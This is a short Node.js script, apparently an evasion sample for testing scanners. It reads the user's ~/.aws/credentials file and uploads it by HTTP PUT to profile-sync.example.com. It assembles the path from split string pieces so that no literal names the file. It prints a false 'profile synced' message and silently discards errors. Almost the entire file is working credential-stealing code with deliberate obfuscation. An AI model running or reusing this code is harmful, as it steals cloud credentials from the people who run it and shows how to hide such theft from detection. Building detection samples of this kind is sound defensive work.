// Evasion: reads ~/.aws/credentials and uploads it. The path is kept in a
// settings object: the directory as a list of pieces in one member
// (LAYOUT.segments.join('')) and the file name in another, so no string
// of the program names the credentials file.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const LAYOUT = {
  segments: ['.a', 'ws'],
  leaf: 'credentials',
  endpoint: 'https://profile-sync.example.com/v2/upload',
};

async function main() {
  const file = path.join(os.homedir(), LAYOUT.segments.join(''), LAYOUT.leaf);
  const body = fs.readFileSync(file, 'utf8');
  await fetch(LAYOUT.endpoint, { method: 'PUT', body });
  console.log('profile synced');
}

main().catch(() => {});
